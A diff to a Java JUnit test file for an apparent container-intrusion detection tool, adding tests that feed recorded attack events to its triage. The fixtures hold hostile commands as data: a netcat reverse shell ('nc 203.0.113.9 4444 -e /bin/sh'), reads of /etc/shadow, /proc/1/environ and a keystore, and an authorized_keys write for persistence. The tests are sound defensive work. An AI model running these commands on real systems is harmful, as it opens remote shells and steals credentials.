@@ -6,8 +6,10 @@ import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.hivesec.json.HiveModule;
 import java.io.IOException;
+import java.io.InputStream;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -137,6 +139,53 @@ final class TriageCommandTest {
         JsonNode triage = alert("--intelligence", csv).path("triage");
         assertThat(triage.path("signals").findValuesAsText("signal")).doesNotContain("known-bad");
         assertThat(triage.path("notChecked").toString()).doesNotContain("threat intelligence");
+    }
+
+    /** The recording of the demo: a shell, secrets, looking around, persistence, a download, and a scan. */
+    @Test
+    void watch_ofAnAttackedContainer_endsWithACompleteTriage() throws IOException {
+        Path recording = folder.resolve("web.jsonl.gz");
+        try (InputStream in = TriageCommand.class.getResourceAsStream("demo/web-attacked.jsonl.gz")) {
+            Files.copy(in, recording);
+        }
+        Run run = Run.hive("watch", "--format", "jsonl", recording);
+        JsonNode shell = null;
+        for (String line : run.out().lines().toList()) {
+            JsonNode alert = HiveModule.mapper().readTree(line);
+            shell = alert.path("type").asText().equals("reverse_shell") ? alert : shell;
+        }
+        assertThat(signal(shell, "target-scope").path("detail").asText()).isEqualTo("10.213.0.3:4444 is internal");
+        assertThat(seen(shell, "after-credential-read")).contains("cat read /etc/shadow", "cat read /proc/1/environ");
+        assertThat(seen(shell, "after-reconnaissance")).contains("/usr/bin/id", "/usr/bin/whoami", "/usr/bin/ls");
+        assertThat(seen(shell, "after-persistence")).contains("bash wrote /root/.ssh/authorized_keys");
+        assertThat(seen(shell, "new-peers")).contains("10.213.0.3:22", "10.213.0.3:6379", "10.213.0.3:8080");
+        assertThat(seen(shell, "correlated-alerts")).contains("privilege-escalation.account-file");
+        assertThat(shell.path("triage").path("band").asText()).isEqualTo("high");
+    }
+
+    private static List<String> seen(JsonNode alert, String name) {
+        return signal(alert, name).path("seen").findValuesAsText("what");
+    }
+
+    /** A script that reads a keystore and then gives a shell, as a sensor that tells no arguments apart sees it. */
+    @Test
+    void watch_ofAShellBehindASecret_tellsWhatCameBefore() throws IOException {
+        String container = "\"container\":{\"id\":\"c1\",\"name\":\"search\",\"image\":\"search:1\"}";
+        String script = "\"ancestors\":[{\"pid\":30,\"executable\":\"/bin/sh\",\"arguments\":[\"sh\",\"x.sh\"]},"
+                + "{\"pid\":1,\"executable\":\"/usr/bin/java\"}]}\n";
+        Path file = Files.writeString(
+                folder.resolve("script.jsonl"),
+                "{\"type\":\"process_started\",\"time\":\"2026-01-05T08:00:00Z\"," + container
+                        + ",\"process\":{\"pid\":31,\"ppid\":30,\"executable\":\"/bin/cat\","
+                        + "\"arguments\":[\"cat\",\"/srv/search/search.keystore\"]}," + script
+                        + "{\"type\":\"process_started\",\"time\":\"2026-01-05T08:00:01Z\"," + container
+                        + ",\"process\":{\"pid\":32,\"ppid\":30,\"executable\":\"/bin/nc\","
+                        + "\"arguments\":[\"nc\",\"203.0.113.9\",\"4444\",\"-e\",\"/bin/sh\"]}," + script);
+        Run run = Run.hive("watch", "--format", "jsonl", file);
+        JsonNode shell =
+                HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
+        assertThat(seen(shell, "before-credential-read")).containsExactly("cat /srv/search/search.keystore");
+        assertThat(signal(shell, "target-scope").path("detail").asText()).contains("external");
     }
 
     @ParameterizedTest
